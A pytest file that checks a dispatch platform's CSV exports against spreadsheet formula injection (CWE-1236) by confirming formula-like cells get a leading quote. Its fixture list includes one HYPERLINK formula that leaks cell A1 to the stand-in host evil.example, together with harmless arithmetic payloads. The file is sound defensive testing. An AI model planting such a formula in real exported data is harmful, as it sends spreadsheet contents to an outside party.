"""CSV exports neutralise cells a spreadsheet would run as formulas (CWE-1236)."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import httpx
import pytest

from conftest import TOKEN
from watchfloor.api.csv_export import neutralise_cell
from watchfloor.app import Platform
from watchfloor.core.principals import Role

ADMIN = {"Authorization": f"Bearer {TOKEN}"}
TAKER = {"Authorization": "Bearer csv-taker-token"}

#: Site names as a caller might give them, each a formula once a spreadsheet opens the file.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "=1+1;Depot",
)


@pytest.fixture
async def client(platform: Platform) -> AsyncIterator[httpx.AsyncClient]:
    await platform.users.ensure_token(
        user="carol", role=Role.OPERATOR, label="desk", token="csv-taker-token"
    )
    transport = httpx.ASGITransport(app=platform.api)
    async with httpx.AsyncClient(transport=transport, base_url="http://watchfloor") as http:
        for site in FORMULAS:
            call = {
                "type_code": 860,
                "site": site,
                "callback_number": "0205550100",
                "report": "Caller reports smoke",
            }
            response = await http.post("/api/calls", headers=TAKER, json=call)
            assert response.status_code == 201, response.text
        yield http


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


async def test_the_alarm_export_prefixes_formula_cells_with_a_quote(
    client: httpx.AsyncClient,
) -> None:
    response = await client.get(
        "/api/search/alarms?format=csv&reason=insurer+request", headers=ADMIN
    )
    assert response.status_code == 200, response.text

    sites = _cells(response.text, "site")
    assert sorted(sites) == sorted(f"'{site}" for site in FORMULAS)
    # The JSON answer stays as entered: only the spreadsheet-bound export is changed.
    found = await client.get("/api/search/alarms?reason=insurer+request", headers=ADMIN)
    assert sorted(a["site"] for a in found.json()["items"]) == sorted(FORMULAS)


async def test_the_statistics_export_prefixes_formula_cells_with_a_quote(
    client: httpx.AsyncClient,
) -> None:
    response = await client.get(
        "/api/stats?by=site&format=csv&reason=monthly+report", headers=ADMIN
    )
    assert response.status_code == 200, response.text

    labels = _cells(response.text, "label")
    assert sorted(labels) == sorted([*(f"'{site}" for site in FORMULAS), "all"])
    keys = _cells(response.text, "key")
    assert all(not key.startswith(("=", "+", "-", "@")) for key in keys)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Depot =1", "Depot =1"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_starts_like_a_formula_is_changed(value: object, written: object) -> None:
    assert neutralise_cell(value) == written
